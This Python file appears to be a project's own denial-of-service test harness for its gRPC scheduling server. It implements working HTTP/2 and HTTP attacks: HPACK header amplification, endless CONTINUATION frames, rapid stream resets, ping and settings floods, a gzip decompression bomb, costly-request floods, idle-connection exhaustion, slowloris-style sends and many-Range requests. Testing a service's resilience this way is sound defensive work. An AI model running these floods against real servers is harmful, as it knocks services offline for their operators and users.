#!/usr/bin/env python3
"""Attacks on a server's port before, and beside, authentication, for tests and measurements.

    attackers.py NAME ADDRESS [--seconds 10] [--connections 4] [--tls] [--token TOKEN] [--source HOST] [--http HOST:PORT]

ADDRESS is unix:PATH or HOST:PORT; connections come from the host SOURCE. Frames are encoded before the attack begins, since a Python program that encodes them one by one attacks
nobody. NAMES lists the attacks; each is a generator of bytes for one connection, or a function of its own.
"""

import argparse
import dataclasses
import gzip
import itertools
import os
import pathlib
import re
import select
import socket
import ssl
import struct
import threading
import time

DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
ACKNOWLEDGED = END_STREAM = 1
END_HEADERS = 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SCHEDULE = "/schaas.v1.Scheduler/Schedule"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
BOMB = gzip.compress(bytes(64 << 20))


# ---- HTTP/2 (RFC 9113) and HPACK (RFC 7541), as much as attacks need ----

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def length(value, prefix_bits, first=0):
    """An integer of HPACK with the prefix's other bits in `first`."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = bytes([first | limit]), value - limit
    while value >= 128:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def field(name, value, indexed=False):
    return length(0, 6, 0x40) * indexed + b"\0" * (not indexed) + length(len(name), 7) + name.encode() + length(len(value), 7) + value.encode()


def call_fields(path, more=()):
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "here"), ("content-type", "application/grpc"), ("te", "trailers"), *more]
    return b"".join(field(name, value) for name, value in fields)


def message(payload, compressed=False):
    return struct.pack(">BI", compressed, len(payload)) + payload


# ---- messages of the service: protobuf by hand ----

def delimited(number, payload):
    return varint(number << 3 | 2) + varint(len(payload)) + payload


def varint(value):
    out = b""
    while value >= 128:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


PROTOCOL = (pathlib.Path(__file__).resolve().parents[2] / "proto" / "schaas" / "v1" / "schaas.proto").read_text()


def switch(message_name, name):
    """The field of that name, set to true; its number is the protocol's."""
    body = re.search(rf"^message {message_name} \{{\n(.*?)^\}}", PROTOCOL, re.MULTILINE | re.DOTALL).group(1)
    return varint(int(re.search(rf"^\s*bool {name} = (\d+);", body, re.MULTILINE).group(1)) << 3) + b"\x01"


NO_CACHE, TRACES_ONLY = switch("ScheduleRequest", "no_cache"), switch("ScheduleRequest", "traces_only")


def schedule_request(expression, formats=(("B", "csr"),), kernels=1, traces=(), no_cache=False, traces_only=False, constraints=()):
    problem = delimited(1, expression.encode())
    for name, text in formats:
        problem += delimited(2, delimited(1, name.encode()) + delimited(2, text.encode()))
    for constraint in constraints:
        problem += delimited(3, constraint.encode())
    out = delimited(1, problem) + delimited(2, b"x86-64-v3") + b"\x18" + varint(kernels)
    for trace in traces:
        out += delimited(4, trace.encode())
    return out + NO_CACHE * no_cache + TRACES_ONLY * traces_only


# ---- connections ----

@dataclasses.dataclass(frozen=True)
class Target:
    """Where connections go, and as whom."""
    address: str
    tls: bool = False
    token: str = ""
    source: str = ""
    http: str = ""

    def metadata(self):
        return [("authorization", f"Bearer {self.token}")] if self.token else []


def connect(target):
    if target.address.startswith("unix:"):
        plain = socket.socket(socket.AF_UNIX)
        plain.settimeout(20)
        try:
            plain.connect(target.address[len("unix:"):])
        except OSError:
            plain.close()
            raise
        return plain
    host, port = target.address.rsplit(":", 1)
    plain = socket.create_connection((host, int(port)), timeout=20, source_address=(target.source, 0) if target.source else None)
    plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)  # as gRPC's clients do
    if not target.tls:
        return plain
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(plain, server_hostname="localhost")


class Frames:
    """A connection that sends what it is given and reads whole frames."""

    def __init__(self, target):
        self.target, self.left = target, b""
        self.socket = connect(target)
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        self.socket.sendall(data)

    def read(self):
        """(type, flags, stream, payload); None when the peer has closed."""
        while len(self.left) < 9 or len(self.left) < 9 + int.from_bytes(self.left[:3], "big"):
            try:
                more = self.socket.recv(65536)
            except OSError:
                return None
            if not more:
                return None
            self.left += more
        size = int.from_bytes(self.left[:3], "big")
        kind, flags, stream = self.left[3], self.left[4], int.from_bytes(self.left[5:9], "big") & 0x7FFFFFFF
        payload, self.left = self.left[9:9 + size], self.left[9 + size:]
        return kind, flags, stream, payload

    def call(self, stream, path, payload, more=()):
        return frame(HEADERS, END_HEADERS, stream, call_fields(path, [*self.target.metadata(), *more])) + frame(DATA, END_STREAM, stream, message(payload))

    def finish(self, stream, end=float("inf")):
        """Reads until the stream ends. Returns the bytes of its data, None when the connection, or the time, ended before."""
        out = b""
        while True:
            found = self.read() if time.monotonic() < end else None
            if found is None:
                return None
            kind, flags, of, payload = found
            if kind == SETTINGS and not flags & ACKNOWLEDGED:
                self.send(frame(SETTINGS, ACKNOWLEDGED, 0))
            elif kind == PING and not flags & ACKNOWLEDGED:
                self.send(frame(PING, ACKNOWLEDGED, 0, payload))
            elif kind == DATA and payload:
                self.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", len(payload))))
                if of == stream:
                    out += payload
                    self.send(frame(WINDOW_UPDATE, 0, of, struct.pack(">I", len(payload))))
            if of == stream and (kind == RESET or kind in (DATA, HEADERS) and flags & END_STREAM):
                return out

    def close(self):
        self.socket.close()


# ---- attacks by frames: each yields what one connection sends after the preface ----

def header_references():
    """One long entry of the peer's table, then references to it: a byte that stands for four kilobytes."""
    entry = field("x-long", "a" * 4000, indexed=True)
    references = bytes([0x80 | 62]) * 16000
    yield frame(HEADERS, 0, 1, call_fields(SCHEDULE) + entry)
    while True:
        yield frame(CONTINUATION, 0, 1, references) * 16


def small_header_references():
    """As many streams as the peer allows, each with references that stay within its limit of one call."""
    entry = field("x-long", "a" * 4000, indexed=True)
    first = call_fields(SCHEDULE) + entry
    later = call_fields(SCHEDULE) + bytes([0x80 | 62]) * 3
    for stream in itertools.count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, later if stream > 1 else first)
        if stream > 255:
            yield frame(RESET, 0, stream - 254, struct.pack(">I", 8))


def endless_headers():
    """A block of headers that does not end, of fields that stand in no table."""
    fields = field("x", "y") * 3000
    yield frame(HEADERS, 0, 1, call_fields(SCHEDULE))
    while True:
        yield frame(CONTINUATION, 0, 1, fields)


def rapid_resets(path=SCHEDULE):
    """Streams that are reset as soon as they are begun."""
    block = call_fields(path)
    reset = struct.pack(">I", 8)
    for first in itertools.count(1, 2000):
        if first > 2**31 - 4000:
            return
        yield b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(RESET, 0, stream, reset) for stream in range(first, first + 2000, 2))


def resets_of_calls():
    """The same with a whole message each, so that work begins."""
    block, data = call_fields(SCHEDULE), message(schedule_request("y(i) = B(i,j) * x(j)"))
    reset = struct.pack(">I", 8)
    for first in itertools.count(1, 400):
        yield b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, data) + frame(RESET, 0, stream, reset)
                       for stream in range(first, first + 400, 2))


def pings():
    while True:
        yield frame(PING, 0, 0, b"attacker") * 1000


def settings():
    """Settings that must be acknowledged, by a client that does not read."""
    while True:
        yield frame(SETTINGS, 0, 0) * 1000


def reflection_streams():
    """Eighty streams that stay open, from before the time when there was no reflection."""
    yield b"".join(frame(HEADERS, END_HEADERS, stream, call_fields(REFLECTION)) for stream in range(1, 161, 2))
    while True:
        time.sleep(0.2)
        yield frame(PING, 0, 0, b"attacker")


def compressed_messages():
    """Calls whose sixty kilobytes unpack to sixty megabytes."""
    bomb = message(BOMB, compressed=True)
    for stream in range(1, 80, 2):
        yield frame(HEADERS, END_HEADERS, stream, call_fields(SCHEDULE, [("grpc-encoding", "gzip")]))
        for start in range(0, len(bomb), 16000):
            yield frame(DATA, 0, stream, bomb[start:start + 16000])
    while True:
        time.sleep(0.2)
        yield frame(PING, 0, 0, b"attacker")


FRAME_ATTACKS = {attack.__name__: attack for attack in (header_references, small_header_references, endless_headers, rapid_resets, resets_of_calls, pings,
                                                        settings, reflection_streams, compressed_messages)}


def flood(target, attack, end, read):
    """One connection after the other, for the time given. Returns the bytes sent and the connections used."""
    sent = connections = 0
    while time.monotonic() < end:
        try:
            one = Frames(target)
        except OSError:
            time.sleep(0.05)
            continue
        connections += 1
        one.socket.settimeout(0.5)
        try:
            for data in attack():
                if time.monotonic() >= end:
                    break
                one.send(data)
                sent += len(data)
                while read and select.select([one.socket], [], [], 0)[0]:
                    if not one.socket.recv(65536):
                        raise ConnectionError
        except OSError:
            pass
        one.close()
    return sent, connections


# ---- attacks by requests, over a connection that keeps to the protocol ----

HEAVY = "A(i,l) = B(i,j) * C(i,k) * D(j,k) * E(j,l) * F(k,l)"


def heavy_request(number):
    return schedule_request(HEAVY, constraints=[f"i <= {1000 + number}"], no_cache=True)


def unrolled_request(number):
    trace = "unroll(i, factor=64)"
    return schedule_request("y(i) = B(i,j) * x(j)", traces=[f"{trace}; {trace}"] * 64, no_cache=True, traces_only=True, constraints=[f"i <= {1000 + number}"])


def many_traces(number):
    return schedule_request("A(i,k) = B(i,j) * C(j,k)", traces=["linear"] * 64, no_cache=True, constraints=[f"i <= {1000 + number}"])


def short_deadlines(number):
    return schedule_request(HEAVY, constraints=[f"i <= {number % 3 + 1000}"])


REQUEST_ATTACKS = {"heavy_searches": (heavy_request, 16, ()), "unrolled_traces": (unrolled_request, 16, ()), "many_traces": (many_traces, 16, ()),
                   "short_deadlines": (short_deadlines, 16, (("grpc-timeout", "500m"),))}


def requests(target, name, end, numbers):
    """Keeps some calls of one connection under way. Returns the calls begun and the connections used."""
    make, together, more = REQUEST_ATTACKS[name]
    calls = connections = 0
    while time.monotonic() < end:
        try:
            one = Frames(target)
            connections += 1
            one.socket.settimeout(max(0.1, end - time.monotonic()))
            streams = range(1, 2 * together, 2)
            for stream in streams:
                one.send(one.call(stream, SCHEDULE, make(next(numbers)), more))
                calls += 1
            for stream in streams:
                if one.finish(stream, end) is None:
                    break
            one.close()
        except OSError:
            time.sleep(0.05)
    return calls, connections


# ---- attacks on connections and on the HTTP server ----

def idle_connections(target, end):
    """As many connections as the system gives, which say nothing."""
    held = []
    while time.monotonic() < end:
        try:
            held.append(connect(target))
        except OSError:
            time.sleep(0.05)
        if len(held) > 3000:
            held.pop(0).close()
    return len(held), len(held)


def http_connect(address):
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=20)


def slow_http(address, end):
    """Clients that send a byte now and then."""
    held, sent = [], 0
    while time.monotonic() < end:
        while len(held) < 8:
            held.append(http_connect(address))
        for one in list(held):
            try:
                one.sendall(b"G")
                sent += 1
            except OSError:
                held.remove(one)
        time.sleep(0.3)
    return sent, len(held)


def many_ranges(address, end):
    """Eight kilobytes of ranges of one page."""
    request = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nRange: bytes=" + b",".join([b"0-"] * 2000) + b"\r\n\r\n"
    sent = 0
    while time.monotonic() < end:
        try:
            one = http_connect(address)
            one.sendall(request)
            while one.recv(1 << 20):
                pass
            one.close()
        except OSError:
            pass
        sent += len(request)
    return sent, 0


NAMES = [*FRAME_ATTACKS, *REQUEST_ATTACKS, "idle_connections", "slow_http", "many_ranges"]


def attack(name, target, seconds, connections=4):
    """Runs an attack to its end. Returns what was sent (bytes, calls or connections) and the connections used."""
    end, numbers, told = time.monotonic() + seconds, itertools.count(os.getpid() * 1000), []

    def one():
        if name in FRAME_ATTACKS:
            told.append(flood(target, FRAME_ATTACKS[name], end, read=name != "settings"))
        elif name in REQUEST_ATTACKS:
            told.append(requests(target, name, end, numbers))
        elif name == "idle_connections":
            told.append(idle_connections(target, end))
        else:
            told.append((slow_http if name == "slow_http" else many_ranges)(target.http, end))

    threads = [threading.Thread(target=one) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sum(sent for sent, _ in told), sum(used for _, used in told)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("name", choices=NAMES)
    parser.add_argument("address")
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--token", default="")
    parser.add_argument("--source", default="")
    parser.add_argument("--http", default="")
    options = parser.parse_args()
    target = Target(options.address, options.tls, options.token, options.source, options.http)
    print(*attack(options.name, target, options.seconds, options.connections))


if __name__ == "__main__":
    main()
